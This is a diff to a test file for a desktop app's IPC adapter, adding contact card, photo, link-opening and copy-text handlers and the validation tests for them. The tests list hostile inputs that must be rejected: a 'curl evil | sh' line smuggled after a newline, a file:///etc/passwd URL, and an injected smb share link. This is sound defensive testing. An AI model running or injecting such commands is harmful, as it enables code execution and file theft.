@@ -1,7 +1,9 @@
 import { Subject } from 'rxjs';
 import { describe, expect, it } from 'vitest';
 import { bindPushes, registerIpc, type InvokeEventLike, type IpcMainLike } from '../../../../main/adapters/ipc';
+import { createExternalOpener } from '../../../../main/adapters/open-external';
 import { isTrustedRendererUrl } from '../../../../main/adapters/renderer-origin';
+import type { ContactCardService } from '../../../../main/core/app/contact-card-service';
 import type { AppPush, AppService } from '../../../../main/core/app/app-service';
 import type { ContactListCommands } from '../../../../main/core/app/contact-list-commands';
 import { IPC } from '../../../../shared/ipc-contract';
@@ -32,6 +34,19 @@ function setup() {
     watchContact: record('watchContact'),
   } as unknown as AppService;
   const events: string[] = [];
+  const contactCards: ContactCardService = {
+    card: async (uri) => {
+      calls.push(['card', uri]);
+      return { ok: false, problem: 'notFound' };
+    },
+    photo: async (uri) => {
+      calls.push(['photo', uri]);
+      return null;
+    },
+  };
+  // The real opener over a recording shell: what reaches the OS is what both checks let through.
+  const opened: string[] = [];
+  const openExternal = createExternalOpener({ openExternal: async (url) => void opened.push(url) }, { log: () => undefined });
   const contactList: ContactListCommands = {
     capabilities: async () => {
       calls.push(['capabilities']);
@@ -51,6 +66,9 @@ function setup() {
     },
   };
   const dispose = registerIpc({
+    contactCards,
+    openExternal,
+    copyText: (text) => void calls.push(['copyText', text]),
     ipcMain,
     service,
     contactList,
@@ -60,7 +78,7 @@ function setup() {
     onShowSignIn: () => events.push('showSignIn'),
   });
   const invoke = async (channel: string, event: InvokeEventLike, ...args: unknown[]) => handlers.get(channel)!(event, ...args);
-  return { handlers, calls, events, dispose, invoke };
+  return { handlers, calls, events, dispose, invoke, opened };
 }
 
 const form = { address: 'dana@contoso.com', password: 'p', discoveryUrl: '', keepSignedIn: false, acceptWeakStorage: false };
@@ -71,7 +89,8 @@ describe('IPC adapter', () => {
     expect([...handlers.keys()].sort()).toEqual(
       [
         IPC.getSnapshot, IPC.signIn, IPC.signOut, IPC.setAvailability, IPC.resetAvailability, IPC.setNote, IPC.watchContact,
-        IPC.showSignIn, IPC.contactsSnapshot, IPC.contactCapabilities, IPC.searchDirectory, IPC.expandDistributionGroup,
+        IPC.showSignIn, IPC.contactsSnapshot, IPC.contactCard, IPC.contactPhoto, IPC.openContactLink, IPC.copyText,
+        IPC.contactCapabilities, IPC.searchDirectory, IPC.expandDistributionGroup,
         IPC.changeContactList,
       ].sort(),
     );
@@ -139,6 +158,17 @@ describe('IPC adapter', () => {
     [IPC.getSnapshot, ['x']],
     [IPC.showSignIn, ['now']],
     [IPC.contactsSnapshot, [{ seq: 0 }]],
+    [IPC.contactCard, ['dana@contoso.com']],
+    [IPC.contactCard, ['sip:dana@contoso.com', 'extra']],
+    [IPC.contactPhoto, ['https://pool.contoso.com/ucwa/oauth/v1/applications/1/photos/dana@contoso.com']],
+    [IPC.contactPhoto, [`sip:${'d'.repeat(320)}@contoso.com`]],
+    [IPC.openContactLink, ['https://contoso.com/']],
+    [IPC.openContactLink, ['file:///etc/passwd']],
+    [IPC.openContactLink, ['mailto:dana@contoso.com\nsmb://evil/share']],
+    [IPC.openContactLink, [`tel:+1${'0'.repeat(2048)}`]],
+    [IPC.copyText, ['']],
+    [IPC.copyText, ['dana@contoso.com\r\ncurl evil | sh']],
+    [IPC.copyText, [{ text: 'dana@contoso.com' }]],
     [IPC.contactCapabilities, ['x']],
     [IPC.searchDirectory, [{ query: 'sa', limit: 1000 }]],
     [IPC.searchDirectory, [{ query: '   ', limit: 10 }]],
@@ -150,6 +180,27 @@ describe('IPC adapter', () => {
     const { invoke, calls } = setup();
     await expect(invoke(channel, TRUSTED, ...args)).rejects.toThrow('Invalid payload');
     expect(calls).toEqual([]);
+  });
+
+  it('reads cards and photos by SIP address and opens contact links through open-external', async () => {
+    const { invoke, calls, opened } = setup();
+    expect(await invoke(IPC.contactCard, TRUSTED, 'sip:sarad@contoso.com')).toEqual({ ok: false, problem: 'notFound' });
+    expect(await invoke(IPC.contactPhoto, TRUSTED, 'sip:sarad@contoso.com')).toBeNull();
+    await invoke(IPC.copyText, TRUSTED, 'sarad@contoso.com');
+    for (const url of ['mailto:sara.davis@contoso.com', 'tel:+14255550102', 'im:<sip:sarad@contoso.com>', 'sip:sarad@contoso.com']) {
+      expect(await invoke(IPC.openContactLink, TRUSTED, url)).toBe(true);
+    }
+    // Past the payload guard (a contact scheme), stopped by open-external's own check.
+    expect(await invoke(IPC.openContactLink, TRUSTED, 'sip://evil.example/x')).toBe(false);
+    expect(await invoke(IPC.openContactLink, TRUSTED, 'mailto:')).toBe(false);
+    expect(opened).toEqual(['mailto:sara.davis@contoso.com', 'tel:+14255550102', 'im:<sip:sarad@contoso.com>', 'sip:sarad@contoso.com']);
+    expect(calls).toEqual([['card', 'sip:sarad@contoso.com'], ['photo', 'sip:sarad@contoso.com'], ['copyText', 'sarad@contoso.com']]);
+  });
+
+  it('opens nothing for an untrusted sender', async () => {
+    const { invoke, opened } = setup();
+    await expect(invoke(IPC.openContactLink, { senderFrame: { url: 'https://evil.example/' } }, 'tel:+14255550102')).rejects.toThrow('Untrusted sender');
+    expect(opened).toEqual([]);
   });
 
   it('pushes to live windows only', () => {
